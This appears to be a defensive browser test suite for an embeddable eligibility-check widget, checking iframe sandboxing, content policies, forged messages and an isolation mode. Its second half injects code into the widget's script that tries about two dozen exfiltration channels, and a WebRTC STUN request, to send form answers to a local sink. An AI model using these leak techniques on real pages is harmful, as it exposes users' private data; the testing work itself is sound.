// The frame: the plain snippet, its helper, and the isolated element; and a widget that tries to give the answers away.

import { createSocket } from "node:dgram";
import { createServer as createSocketServer } from "node:net";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { dist } from "./browser.mjs";
import { check, closeLater, ground, host, hostile, html, look, patchedFile, quiet, release, settled, silent, walk, widget } from "./hosts/ground.mjs";

ground();

const icon = '<link rel="icon" href="data:,">';
const sandbox = "allow-scripts allow-popups allow-popups-to-escape-sandbox allow-downloads allow-modals";
const snippet = (from, words = "pack=eu-sme&lang=en", attributes = `sandbox="${sandbox}"`) =>
  `<iframe src="${from.address}frame.html#${words}" title="Eligibility check" width="100%" height="600" referrerpolicy="no-referrer" ${attributes}></iframe>`;

/** The inner page of a frame, once it is there. */
async function inside(page) {
  const outer = page.frameLocator("iframe");
  const inner = outer.frameLocator("iframe");
  await inner.locator("#page-title").waitFor();
  return inner.locator("eligibility-check");
}

/** Opens every card, and then what is folded inside them. */
async function unfold(own) {
  for (const part of [".card", ".card-body"]) {
    await own.locator(part).first().waitFor();
    await own.locator("details > summary").evaluateAll((all) => all.forEach((summary) => (summary.parentElement.open = true)));
  }
}

hostile("a frame on a page that allows no script at all", /Timeout|waiting for/, async (twin, open) => {
  const from = await release();
  const frames = twin ? "" : `frame-src ${from.origin}`;
  const page = await host({ "/": { headers: { "Content-Security-Policy": `default-src 'none'; ${frames}` }, body: `<!doctype html><title>Host</title>${snippet(from)}` } });
  const seen = await open(page.address, { patience: twin ? 3_000 : 20_000 });
  const own = await inside(seen.page);
  seen.mark();
  await walk(own);
  check.deepEqual(seen.requestsSinceMark(), []);
  const storage = await own.evaluate(() => { try { return Boolean(localStorage); } catch (error) { return error.name; } });
  check.equal(storage, "SecurityError", "the frame's origin is nobody's: it can keep nothing");
  // The page's own policy also stops what the test listens with.
  silent(seen, [/Content Security Policy/]);
});

const height = (page) => page.evaluate(() => document.querySelector("iframe").clientHeight);
const helper = (from) => `<script type="module" src="${from.address}frame.js" crossorigin></script>`;

hostile("the helper gives the frame the height of what is in it", /as high as the check/, async (twin, open) => {
  const from = await release();
  const page = await host({ "/": { body: `<!doctype html><title>Host</title>${icon}${twin ? "" : helper(from)}${snippet(from)}` } });
  const seen = await open(page.address);
  const own = await inside(seen.page);
  const fits = async () => {
    const high = await own.evaluate((element) => Math.ceil(element.getBoundingClientRect().height));
    const got = await seen.page.waitForFunction((high) => Math.abs(document.querySelector("iframe").clientHeight - high) < 3, high, { timeout: 3_000 }).then(() => true, () => false);
    check.ok(got, `as high as the check: ${await height(seen.page)} for ${high}`);
  };
  await fits();
  await own.getByRole("button", { name: "Start", exact: true }).click();
  await fits();
  await seen.page.setViewportSize({ width: 400, height: 700 });
  await fits();
  check.deepEqual((await seen.page.evaluate(() => globalThis.heard.map(({ name }) => name)))[0], "ready");
  silent(seen);
});

hostile("a message that only looks like one of ours", /stays as high as it was/, async (twin, open) => {
  const from = await release(
    twin ? patchedFile("frame.js", [/\(\{contentWindow:(\w)\}\)=>\1===\w+/, "()=>true"]) : undefined,
  );
  const forger = `<script>parent.postMessage({ esc: 1, type: "resize", state: "ready", height: 9999 }, "*")</script>`;
  const page = await host({ "/": { body: `<!doctype html><title>Host</title>${icon}${helper(from)}${snippet(from)}<div id="others"></div>` }, "/forger": { body: `<link rel="icon" href="data:,">${forger}` } });
  const seen = await open(page.address);
  await inside(seen.page);
  await seen.page.waitForFunction(() => globalThis.heard.length > 0);
  const before = await height(seen.page);
  await seen.page.evaluate(async () => {
    const frame = Object.assign(document.createElement("iframe"), { src: "/forger", sandbox: "allow-scripts" });
    const said = new Promise((resolve) => addEventListener("message", ({ data }) => data.height === 9999 && setTimeout(resolve)));
    document.getElementById("others").append(frame);
    await said;
  });
  check.equal(await height(seen.page), before, "the frame stays as high as it was");
  silent(seen);
});

hostile("an isolated element: the page cannot read the answers", /cannot be read/, async (twin, open) => {
  const from = await release();
  const strict = `default-src 'none'; script-src ${from.origin} 'unsafe-inline'; frame-src ${from.origin}; img-src data:${twin ? `; connect-src ${from.origin}` : ""}`;
  const attributes = `pack="eu-sme" lang="en" share-results ${twin ? "" : "isolate"}`;
  const page = await host({
    "/": { headers: { "Content-Security-Policy": twin ? strict.replace("'unsafe-inline'", "'unsafe-inline' 'wasm-unsafe-eval'") : strict }, body: html({ from, attributes, head: "<script>0</script>" }) },
  });
  const seen = await open(page.address, {
    prepare: ({ page }) => page.addInitScript(() => addEventListener("DOMContentLoaded", () => self === top && (document.querySelector("eligibility-check").answers = { headcount: { [new Date().getFullYear() - 1]: 97.5, [new Date().getFullYear() - 2]: 81 } }))),
  });
  await settled(seen.page);
  const readable = await seen.page.evaluate(() => {
    const root = document.querySelector("eligibility-check").shadowRoot;
    const frame = root.querySelector("iframe");
    const text = root.querySelector(".esc")?.textContent ?? frame?.contentDocument?.body?.textContent ?? "";
    let through;
    try {
      through = frame?.contentWindow.document.body.textContent;
    } catch (error) {
      through = error.name;
    }
    return [text, through];
  });
  check.deepEqual(readable, ["", "SecurityError"], "it cannot be read");
  const own = seen.page.locator("eligibility-check").frameLocator("iframe").frameLocator("iframe").locator("eligibility-check");
  await own.locator("#page-title").waitFor();
  await quiet(seen, from, own);
  await own.getByRole("button", { name: /check your answers/i }).first().click();
  check.match(await own.locator(".esc").innerText(), /\b97\.5\b[^]*\b81\b/, "the answers to begin with have come through");
  await own.getByRole("button", { name: "Show the results", exact: true }).click();
  await own.getByRole("button", { name: /127\.0\.0\.1/ }).click();
  await seen.page.waitForFunction(() => globalThis.heard.some(({ name }) => name === "share"));
  const share = await seen.page.evaluate(() => globalThis.heard.find(({ name }) => name === "share"));
  check.equal(share.results.pack, "eu-sme");
  silent(seen);
});

hostile("an isolated element on a page that forbids the frame", /frame-blocked/, async (twin, open) => {
  const from = await release();
  const allowed = twin ? `frame-src ${from.origin}` : "";
  const page = await host({
    "/": { headers: { "Content-Security-Policy": `default-src 'none'; script-src ${from.origin}; img-src data:; ${allowed}` }, body: html({ from, attributes: 'pack="eu-sme" lang="en" isolate' }) },
  });
  const seen = await open(page.address);
  await seen.page.waitForFunction(() => ["ready", "error"].includes(document.querySelector("eligibility-check").state));
  check.equal((await seen.page.evaluate(() => globalThis.heard.find(({ name }) => name !== "resize"))).code, "frame-blocked");
  check.ok(await widget(seen.page).locator("a").isVisible(), "the link is seen");
  silent(seen, [/Content Security Policy/]);
});

hostile("a pack of the page's own in an isolated element", /the element is error, not ready/, async (twin, open) => {
  const from = await release();
  const pack = readFileSync(join(dist, "packs/eu-sme.pack"));
  const packs = await host({ "/own.pack": { headers: twin ? {} : { "Access-Control-Allow-Origin": "*" }, body: pack } });
  const page = await host({ "/": { body: html({ from, attributes: `pack="${packs.address}own.pack" lang="en" isolate` }) } });
  const seen = await open(page.address);
  await settled(seen.page);
  silent(seen);
});

hostile("links and files leave the frame, and only they", /no page was opened|no file came/, async (twin, open) => {
  const from = await release();
  // A partner who leaves permissions out takes these two away from the check, and nothing else.
  const allowed = twin ? 'sandbox="allow-scripts"' : undefined;
  const page = await host({ "/": { body: `<!doctype html><title>Host</title>${icon}${snippet(from, undefined, allowed)}` } });
  const seen = await open(page.address, { acceptDownloads: true });
  const asked = [];
  await seen.context.route(/^https:/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: "<title>The authority</title>" });
  });
  const own = await inside(seen.page);
  await walk(own);
  await unfold(own);
  const link = own.locator(".esc a[target=_blank]").first();
  const address = await link.getAttribute("href");
  const patience = { timeout: twin ? 2_000 : 20_000 };
  const opened = seen.context.waitForEvent("page", patience).catch(() => undefined);
  await link.click();
  const popup = await opened;
  check.ok(popup, "no page was opened");
  await popup.waitForURL(address);
  check.equal(await popup.evaluate(() => [opener, document.referrer].join()), ",", "it knows neither where it was opened nor by whom");
  check.deepEqual(asked, [address]);

  await own.getByRole("button", { name: "Save or share" }).click();
  const saved = seen.page.waitForEvent("download", patience).catch(() => undefined);
  await own.locator("a[download]").first().click();
  const file = await saved;
  check.ok(file, "no file came");
  check.match(readFileSync(await file.path(), "utf8"), /^eligibility-check=2\n/);
  silent(seen);
});

hostile("a link that stands in no rule does not leave the frame", /it was opened/, async (twin, open) => {
  const from = await release(twin ? patchedFile("frame-outer.js", [/\w+\.has\((\w+)\)(?=\W+open\()/, "$1"]) : undefined);
  const page = await host({ "/": { body: `<!doctype html><title>Host</title>${icon}${snippet(from)}` } });
  const seen = await open(page.address);
  await seen.context.route(/^https:/, (route) => route.fulfill({ body: "<title>Elsewhere</title>" }));
  const own = await inside(seen.page);
  await own.evaluate((element) => {
    const link = Object.assign(document.createElement("a"), { href: "https://elsewhere.example/?answers=96", target: "_blank", textContent: "x", id: "made-up" });
    element.before(link);
  });
  await walk(own);
  await unfold(own);
  await seen.page.frameLocator("iframe").frameLocator("iframe").locator("#made-up").click();
  // One that may leave, pressed after it: what the first did would be there by now.
  const opened = seen.context.waitForEvent("page", { predicate: (page) => !page.url().includes("elsewhere") });
  await own.locator(".esc a[target=_blank]").first().click();
  await opened;
  check.equal(seen.context.pages().length, 2, "it was opened");
});

// --- a widget that was tampered with, and tries to get the answers out -----------------------------------------------------------------

/** Everything that reaches it, as it comes over the wire. */
async function sink() {
  const log = [];
  const waiting = [];
  const note = (line) => {
    log.push(line);
    for (const look of waiting) look();
  };
  const server = createSocketServer((socket) => {
    note("connection");
    socket.on("data", (bytes) => {
      note(bytes.toString("latin1").split("\r\n", 1)[0]);
      socket.end("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
    });
    socket.on("error", () => {});
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  /** Resolves once a line of the log fits. */
  const until = (pattern) => new Promise((resolve) => waiting.push(() => log.some((line) => pattern.test(line)) && resolve()));
  closeLater({ close: () => server.close() });
  return { address: `127.0.0.1:${server.address().port}`, log, until };
}

/** Every way out that a page has, taken one after the other. What each does is told by the name in the address. */
function leaks(address) {
  const url = (name) => `http://${address}/${name}?answers=96`;
  const tag = (name, attributes) => {
    const node = Object.assign(document.createElement(name), attributes);
    document.body.append(node);
    return node;
  };
  const ways = {
    fetch: () => fetch(url("fetch"), { mode: "no-cors" }),
    keepalive: () => fetch(url("keepalive"), { mode: "no-cors", keepalive: true }),
    xhr: () => { const request = new XMLHttpRequest(); request.open("POST", url("xhr")); request.send("96"); },
    beacon: () => navigator.sendBeacon(url("beacon"), "96"),
    image: () => { new Image().src = url("image"); },
    socket: () => new WebSocket(`ws://${address}/socket`),
    events: () => new EventSource(url("events")),
    style: () => tag("link", { rel: "stylesheet", href: url("style") }),
    font: () => new FontFace("leak", `url(${url("font")})`).load(),
    script: () => tag("script", { src: url("script") }),
    module: () => import(url("module")),
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${url("worker")}")`]))),
    media: () => tag("video", { src: url("media"), preload: "auto" }),
    object: () => tag("object", { data: url("object") }),
    frame: () => tag("iframe", { src: url("frame") }),
    preconnect: () => tag("link", { rel: "preconnect", href: url("preconnect") }),
    prefetch: () => tag("link", { rel: "prefetch", href: url("prefetch") }),
    preload: () => tag("link", { rel: "preload", as: "image", href: url("preload") }),
    form: () => { const form = tag("form", { action: url("form"), method: "post" }); form.submit(); },
    ping: () => { const link = tag("a", { href: "#", ping: url("ping") }); link.click(); },
    download: () => { const link = tag("a", { href: url("download"), download: "x" }); link.click(); },
    window: () => open(url("window")),
    link: () => { const link = tag("a", { href: url("link"), target: "_blank" }); link.click(); },
    around: () => { top.location.href = url("around"); },
    itself: () => { location.href = url("itself"); },
  };
  // Said before the last of them ends this document.
  console.info(`${Object.keys(ways).length} ways out`);
  for (const way of Object.values(ways)) {
    try {
      Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused at once.
    }
  }
}

/** The page around asks another sink twice, one after the other: what was on its way before has come by then. The first one works, too. */
async function ask(page, { address, until }, name) {
  const come = until(new RegExp(`/${name} `));
  await page.evaluate((url) => void fetch(url, { mode: "no-cors" }), `http://${address}/${name}`);
  await come;
}

hostile("a widget that tries every way out, isolated", /nothing reached the sink/, async (twin, open) => {
  const trap = await sink();
  // Added to the script that ships, so it runs where the answers are, once the check is ready.
  const evil = `;addEventListener("esc-ready", ({ target }) => target.hasAttribute("isolate") || setTimeout(() => (${leaks})(${JSON.stringify(trap.address)})));`;
  const from = await release((url, bytes) => (/eligibility-check\.js$/.test(url) ? `${bytes}${evil}` : undefined));
  const page = await host({ "/": { body: html({ from, attributes: `pack="eu-sme" lang="en" ${twin ? "" : "isolate"}` }) } });
  const seen = await open(page.address);
  if (!twin) {
    await settled(seen.page);
    const tries = () => seen.console.some(({ text }) => /^\d\d ways out$/.test(text));
    while (!tries()) await seen.page.waitForEvent("console");
    check.equal(page.asked.filter((line) => !line.includes("favicon")).length, 1, "the page around was not sent away");
  }
  const other = await sink();
  if (twin) await trap.until(/answers=96/);
  else for (const name of ["control-1", "control-2"]) await ask(seen.page, other, name);
  // For a navigation that it then refuses, Chromium connects ahead, and says nothing over it: the two below, and no others.
  check.deepEqual(trap.log.filter((line) => line !== "connection"), [], "nothing reached the sink");
  check.ok(trap.log.length <= 2, `nothing reached the sink, but for ${trap.log.length} connections`);
  await ask(seen.page, trap, "control-3");
});

// Before the check is ready the page may connect to our own origin, and may already hold the answers that a partner began with.
for (const [file, names] of [
  ["frame-inner.js", ["fetch", "image", "style", "script", "module", "worker"]],
  ["frame-outer.js", ["itself"]],
]) {
  hostile(`a widget that tries its ways out before it is ready, past ${file}`, /nothing reached the sink/, async (twin, open) => {
    const trap = await sink();
    const evil = `;if (location.pathname.endsWith("frame-inner.html")) (${leaks})(${JSON.stringify(trap.address)});`;
    const wide = patchedFile(file, [/"http: https:"/, '"nothing"']);
    const from = await release((url, bytes) => (/eligibility-check\.js$/.test(url) ? `${bytes}${evil}` : twin ? wide(url, bytes) : undefined));
    const page = await host({ "/": { body: html({ from, attributes: 'pack="eu-sme" lang="en" isolate loading="eager"' }) } });
    const seen = await open(page.address);
    while (!seen.console.some(({ text }) => /^\d\d ways out$/.test(text))) await seen.page.waitForEvent("console");
    const other = await sink();
    if (twin) await trap.until(new RegExp(`/(${names.join("|")})\\?`));
    else for (const name of ["control-1", "control-2"]) await ask(seen.page, other, name);
    check.deepEqual(trap.log.filter((line) => line !== "connection"), [], "nothing reached the sink");
  });
}

// No defence, so no twin: this is what docs/partners/security.md admits. Should a browser begin to stop it, that paper has to say so.
test("what no policy stops: a tampered widget reaches a STUN server from inside the frame", { timeout: 60_000 }, async () => {
  const stun = createSocket("udp4");
  await new Promise((resolve) => stun.bind(0, "127.0.0.1", resolve));
  closeLater({ close: () => stun.close() });
  const heard = new Promise((resolve) => stun.once("message", resolve));
  const call = (url) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: url }] });
    peer.createDataChannel("leak");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const evil = `;addEventListener("esc-ready", () => (${call})("stun:127.0.0.1:${stun.address().port}"));`;
  const from = await release((url, bytes) => (/eligibility-check\.js$/.test(url) ? `${bytes}${evil}` : undefined));
  const seen = await look(`${from.address}frame.html#pack=eu-sme&lang=en`);
  const request = await heard;
  check.equal(request.readUInt16BE(0), 1, "a STUN binding request");
  await seen.close();
});
